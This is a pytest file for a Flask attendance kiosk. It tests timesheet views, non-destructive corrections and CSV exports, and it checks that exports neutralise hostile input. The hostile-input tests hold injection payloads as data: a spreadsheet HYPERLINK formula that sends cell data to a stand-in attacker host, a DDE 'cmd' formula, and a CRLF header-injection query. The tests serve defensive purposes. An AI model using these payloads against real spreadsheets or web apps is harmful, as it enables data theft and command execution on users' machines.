"""Timesheet pages and exports through Flask's test client: day and week
views, corrections that never delete, CSV round trips and hostile input."""

import csv
import datetime as dt
import io

import numpy as np
import pytest

from kiosk.config import AttendanceSettings, Config, KioskSettings
from kiosk.status import Status
from kiosk.store import Store
from kiosk.web import create_app, passwords
from kiosk.web.timesheets import PUNCH_COLUMNS, TIMESHEET_COLUMNS, safe_cell
from tests.helpers import PASSWORD, form_token, login, punch, services

UTC = dt.UTC


@pytest.fixture
def setup(tmp_path):
    passwords.set_password(tmp_path, PASSWORD)
    config = Config(kiosk=KioskSettings(data_dir=tmp_path), attendance=AttendanceSettings(timezone="UTC", day_start="04:00"))
    app = create_app(config, services(tmp_path / "kiosk.db", Status()), {"TESTING": True})
    client = app.test_client()
    assert login(client).status_code == 302
    store = Store(tmp_path / "kiosk.db")
    people = {}
    for name in ("Ana Lima", "Ben Ode", '=HYPERLINK("http://evil.example/?x="&A1,"Click")'):
        people[name] = store.add_employee(
            name, image=None, face=None, crop=np.zeros((8, 8, 3), np.uint8), embedding=np.ones(4, np.float32), model_version="v"
        )
    return client, store, people


def at(text):
    return dt.datetime.fromisoformat(text).replace(tzinfo=UTC)


def csv_rows(response):
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_the_day_view_shows_first_in_last_out_hours_and_a_missing_out(setup):
    client, store, people = setup
    ana, ben = people["Ana Lima"], people["Ben Ode"]
    for t in ("2026-03-02 08:00", "2026-03-02 12:00", "2026-03-02 12:45", "2026-03-02 17:15"):
        punch(store, ana, at(t))
    punch(store, ben, at("2026-03-02 09:00"))  # never punched out
    page = client.get("/admin/timesheet?view=day&date=2026-03-02").get_data(as_text=True)
    ana_row = page[page.index("Ana Lima") : page.index("Ben Ode")]
    assert "08:00" in ana_row and "17:15" in ana_row and "8:30" in ana_row  # 4:00 + 4:30
    ben_row = page[page.index("Ben Ode") :]
    assert "no OUT after 09:00" in ben_row and "0:00" in ben_row


def test_corrections_add_void_and_redirect_and_the_originals_stay(setup):
    client, store, people = setup
    ana = people["Ana Lima"]
    first = punch(store, ana, at("2026-03-02 08:00"))
    wrong = punch(store, ana, at("2026-03-02 08:05"))  # an accidental second punch: OUT
    path = "/admin/timesheet?view=day&date=2026-03-02"
    token = form_token(client, path)
    client.post("/admin/corrections/void", data={"csrf_token": token, "entry": wrong.id, "note": "double punch", "back": path})
    client.post(
        "/admin/corrections/add",
        data={
            "csrf_token": token,
            "employee": ana,
            "day": "2026-03-02",
            "time": "16:00",
            "direction": "out",
            "note": "forgot to punch out",
            "back": path,
        },
    )
    rows = store.punch_log()
    assert [r.id for r in rows if r.kind == "punch"] == [first.id, wrong.id]  # nothing deleted
    assert {r.kind for r in rows} == {"punch", "void", "added"}
    void = next(r for r in rows if r.kind == "void")
    assert void.target_id == wrong.id and void.note == "double punch" and void.author.startswith("admin")
    page = client.get(path).get_data(as_text=True)
    assert "8:00" in page and "voided #" in page and "forgot to punch out" in page and "double punch" in page
    # change a direction: make the 16:00 an IN, and the day is incomplete again
    added = next(r for r in rows if r.kind == "added")
    client.post(
        "/admin/corrections/direction",
        data={"csrf_token": token, "entry": added.id, "direction": "in", "note": "was coming back", "back": path},
    )
    page = client.get(path).get_data(as_text=True)
    assert "changed IN" in page and "no OUT after 16:00" in page
    bad = client.post(
        "/admin/corrections/void", data={"csrf_token": token, "entry": first.id, "note": "", "back": path}, follow_redirects=True
    )
    assert b"Give a reason" in bad.data and len(store.punch_log()) == 5


def test_the_week_view_totals_each_person(setup):
    client, store, people = setup
    ana, ben = people["Ana Lima"], people["Ben Ode"]
    for day in range(2, 7):  # Monday to Friday, 8:00-16:30
        punch(store, ana, at(f"2026-03-0{day} 08:00"))
        punch(store, ana, at(f"2026-03-0{day} 16:30"))
    punch(store, ben, at("2026-03-04 22:00"), day_start=dt.time(4))  # a night shift: counts for Wednesday
    punch(store, ben, at("2026-03-05 03:00"), day_start=dt.time(4))
    page = client.get("/admin/timesheet?view=week&date=2026-03-04").get_data(as_text=True)
    assert "42:30" in page and "5:00" in page and "Week of 2026-03-02" in page


def test_timesheet_csv_round_trip(setup):
    client, store, people = setup
    ana = people["Ana Lima"]
    punch(store, ana, at("2026-03-02 08:00"))
    punch(store, ana, at("2026-03-02 12:30"))
    punch(store, ana, at("2026-03-03 08:00"))
    rows = csv_rows(client.get("/admin/timesheet.csv?from=2026-03-02&to=2026-03-03"))
    assert list(rows[0]) == TIMESHEET_COLUMNS
    by_day = {r["work_date"]: r for r in rows if r["name"] == "Ana Lima"}
    assert by_day["2026-03-02"]["worked_hours"] == "4.50" and by_day["2026-03-02"]["worked"] == "4:30"
    assert by_day["2026-03-02"]["complete"] == "yes" and by_day["2026-03-03"]["complete"] == "no"
    assert by_day["2026-03-03"]["missing_out"] == "08:00" and by_day["2026-03-03"]["worked_hours"] == "0.00"
    punches = csv_rows(client.get("/admin/attendance.csv?from=2026-03-02&to=2026-03-03"))
    assert list(punches[0]) == PUNCH_COLUMNS
    assert [(p["work_date"], p["time"], p["direction"], p["counts"]) for p in punches] == [
        ("2026-03-02", "08:00:00", "in", "yes"),
        ("2026-03-02", "12:30:00", "out", "yes"),
        ("2026-03-03", "08:00:00", "in", "yes"),
    ]
    assert dt.datetime.fromisoformat(punches[0]["timestamp"]) == at("2026-03-02 08:00")


def test_csv_cells_cannot_become_formulas(setup):
    client, store, people = setup
    evil = next(p for n, p in people.items() if n.startswith("="))
    punch(store, evil, at("2026-03-02 08:00"))
    store.add_correction(
        evil,
        "added",
        at=at("2026-03-02 17:00"),
        work_day=dt.date(2026, 3, 2),
        author="admin",
        note='=cmd|" /C calc"!A0',
        direction="out",
    )
    for path in ("/admin/attendance.csv?from=2026-03-02", "/admin/timesheet.csv?from=2026-03-02&to=2026-03-02"):
        text = client.get(path).get_data(as_text=True)
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
            assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row), row
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)" and safe_cell("\tx") == "'\tx" and safe_cell(4.5) == 4.5


@pytest.mark.parametrize(
    "query",
    [
        "from=2026-03-02%0D%0ASet-Cookie:x",
        "to=yesterday",
        "from=2026-03-05&to=2026-03-01",
        "from=2020-01-01&to=2026-01-01",
        "employee=abc",
    ],
)
def test_bad_dates_and_people_are_a_clear_400_not_a_crash(setup, query):
    client, _, _ = setup
    for path in ("/admin/attendance.csv", "/admin/attendance", "/admin/timesheet.csv"):
        response = client.get(f"{path}?{query}")
        assert response.status_code == 400 and b"Bad request" in response.data


def test_late_and_not_arrived_are_on_the_day_view_only(setup, tmp_path):
    client, store, people = setup
    store.set_expected_start(people["Ana Lima"], "08:00")
    store.set_expected_start(people["Ben Ode"], "08:30")
    punch(store, people["Ana Lima"], at("2026-03-02 08:20"))
    page = client.get("/admin/timesheet?view=day&date=2026-03-02").get_data(as_text=True)
    assert "late 0:20" in page and "Not arrived yet" in page and "Ben Ode" in page.split("Not arrived yet")[1].split("</p>")[0]
    assert b"late" not in client.get("/").data  # the kiosk never shows this
